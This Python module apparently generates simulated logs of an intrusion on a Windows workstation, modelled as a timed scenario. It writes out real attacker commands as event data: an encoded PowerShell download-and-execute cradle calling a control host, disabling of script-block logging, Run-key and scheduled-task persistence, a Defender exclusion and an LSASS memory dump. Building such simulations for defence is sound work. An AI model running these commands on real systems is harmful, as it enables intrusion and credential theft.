"""The first half of the story, on the clerk's workstation: document, PowerShell, foothold, credentials."""

from __future__ import annotations

from base64 import b64encode
from typing import TYPE_CHECKING

from samples.making.cast import CLERK, CONTROL_ADDRESS, CONTROL_NAME, CONTROLLER, WORKSTATION, at
from samples.making.windows import POWERSHELL, SYSTEM32

if TYPE_CHECKING:
    from samples.making.stage import Stage
    from samples.making.windows import Process

__all__ = ["AGENT", "break_in"]

AGENT = "Mozilla/5.0 (Windows NT; Windows NT 10.0; vi-VN) WindowsPowerShell/5.1.19041.4522"
_HOME = "C:\\Users\\mai.tt"
_MAIL_CACHE = _HOME + "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook"
_PROFILE = _HOME + "\\AppData\\Roaming\\capnhat.js"
_HIVE = f"HKU\\{CLERK.sid}"


def break_in(stage: Stage) -> Process:
    """Play the steps on the workstation; return the PowerShell process from which the intruder works."""
    shell = _document(stage)
    _first_code(stage, shell)
    _callbacks(stage)
    _persistence(stage, shell)
    _looking_around(stage, shell)
    _credentials(stage, shell)
    return shell


def _document(stage: Stage) -> Process:
    """08:41. The attachment is opened; its macro drops a script and starts it."""
    pc = stage.pc
    document = rf"{_MAIL_CACHE}\8K2QXN1D\Giấy mời họp UBND tỉnh.docm"
    pc.writes(at(41.10), stage.outlook, document)
    office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
    word = pc.start(
        at(41.22), stage.outlook, office + "WINWORD.EXE", f'"{office}WINWORD.EXE" /n "{document}" /o ""'
    )
    pc.loads(
        at(41.31),
        word,
        "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL",
        "Microsoft Corporation",
    )
    pc.writes(at(41.78), word, _PROFILE)
    cmd = pc.start(
        at(41.81), word, SYSTEM32 + "cmd.exe", f'cmd.exe /c start /min wscript.exe //B "{_PROFILE}"'
    )
    script = pc.start(at(41.83), cmd, SYSTEM32 + "wscript.exe", f'wscript.exe  //B "{_PROFILE}"')
    text = f"$w=New-Object Net.WebClient;IEX $w.DownloadString('http://{CONTROL_ADDRESS}/t/capnhat.ps1')"
    encoded = b64encode(text.encode("utf-16-le")).decode()
    command = f"powershell.exe -NoP -W Hidden -Exec Bypass -Enc {encoded}"
    shell = pc.start(at(41.87), script, POWERSHELL, command)
    pc.ends(at(41.90), cmd)
    pc.ends(at(42.30), script)
    pc.script(at(41.93), shell, text)
    return shell


def _first_code(stage: Stage, shell: Process) -> None:
    """08:42. The script is fetched from a bare address and switches its own logging off."""
    port = stage.pc.connects(at(41.96), shell, CONTROL_ADDRESS, 80)
    stage.net.fetches(
        at(41.96),
        WORKSTATION.address,
        CONTROL_ADDRESS,
        CONTROL_ADDRESS,
        "/t/capnhat.ps1",
        AGENT,
        received=18_422,
        mime="text/plain",
        source_port=port,
    )
    stage.pc.script(
        at(42.02),
        shell,
        "$g=[ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings',"
        "'NonPublic,Static').GetValue($null);$g['ScriptBlockLogging']['EnableScriptBlockLogging']=0",
    )
    stage.pc.asks(at(42.20), shell, CONTROL_NAME, CONTROL_ADDRESS)
    stage.net.asks(at(42.20), WORKSTATION.address, CONTROL_NAME, CONTROL_ADDRESS)


def _callbacks(stage: Stage) -> None:
    """08:43 to 10:55. The implant asks for orders about every minute and a half."""
    minute = 43.0
    while minute < 175:
        stage.net.fetches(
            at(minute),
            WORKSTATION.address,
            CONTROL_ADDRESS,
            CONTROL_NAME,
            "/dongbo/v2",
            AGENT,
            method="POST",
            sent=stage.chance.whole(180, 420),
            received=stage.chance.whole(60, 900),
            mime="application/octet-stream",
        )
        minute += stage.chance.between(1.25, 1.75)


def _persistence(stage: Stage, shell: Process) -> None:
    """08:52. A Run value and a scheduled task bring the script back."""
    run = _HIVE + "\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\CapNhatVanBan"
    stage.pc.sets(at(52.4), shell, run, f'wscript.exe //B "{_PROFILE}"')
    task = stage.pc.start(
        at(53.1),
        shell,
        SYSTEM32 + "schtasks.exe",
        f'schtasks.exe /create /tn "Cap nhat van ban" /sc onlogon /f /tr "wscript.exe //B {_PROFILE}"',
    )
    stage.pc.ends(at(53.12), task)


def _looking_around(stage: Stage, shell: Process) -> None:
    """09:03 to 09:08. Who am I, who are the administrators, where is the domain controller?"""
    commands = (
        (63.2, "whoami.exe", "/all"),
        (63.9, "ipconfig.exe", "/all"),
        (64.6, "systeminfo.exe", ""),
        (65.7, "net.exe", "user /domain"),
        (66.3, "net.exe", 'group "Domain Admins" /domain'),
        (67.1, "nltest.exe", "/dclist:haivan.example"),
        (67.9, "net.exe", f"view \\\\{CONTROLLER.name}"),
    )
    for minute, name, arguments in commands:
        process = stage.pc.start(
            at(minute), shell, SYSTEM32 + name, f'"{SYSTEM32}{name}" {arguments}'.strip()
        )
        if arguments.endswith("/domain"):
            child = f"{SYSTEM32}net1 {arguments}"
            stage.pc.start(at(minute + 0.004), process, SYSTEM32 + "net1.exe", child)
        stage.pc.ends(at(minute + 0.03), process)


def _credentials(stage: Stage, shell: Process) -> None:
    """09:17 to 09:21. Defender is told to look away, then the logon process is copied to a file."""
    pc = stage.pc
    exempt = f'"{POWERSHELL}" -NoP -C Add-MpPreference -ExclusionPath C:\\ProgramData\\Temp'
    helper = pc.start(at(77.3), shell, POWERSHELL, exempt)
    pc.sets(
        at(77.34),
        stage.pc_defender,
        "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ProgramData\\Temp",
        "DWORD (0x00000000)",
    )
    pc.ends(at(77.36), helper)
    target = f"C:\\ProgramData\\Temp\\lsass-{stage.pc_lsass.number}.dmp"
    call = f"C:\\Windows\\System32\\comsvcs.dll, MiniDump {stage.pc_lsass.number} {target} full"
    command = f'"{SYSTEM32}rundll32.exe" {call}'
    dumper = pc.start(at(81.05), shell, SYSTEM32 + "rundll32.exe", command)
    pc.loads(at(81.06), dumper, SYSTEM32 + "comsvcs.dll")
    pc.loads(at(81.07), dumper, SYSTEM32 + "dbgcore.dll")
    trace = (
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c0ee|"
        "C:\\Windows\\System32\\dbgcore.dll+6fd1|C:\\Windows\\System32\\comsvcs.dll+2d8c1"
    )
    pc.opens(at(81.08), dumper, stage.pc_lsass, "0x1fffff", trace)
    pc.writes(at(81.09), dumper, target)
    pc.ends(at(81.14), dumper)
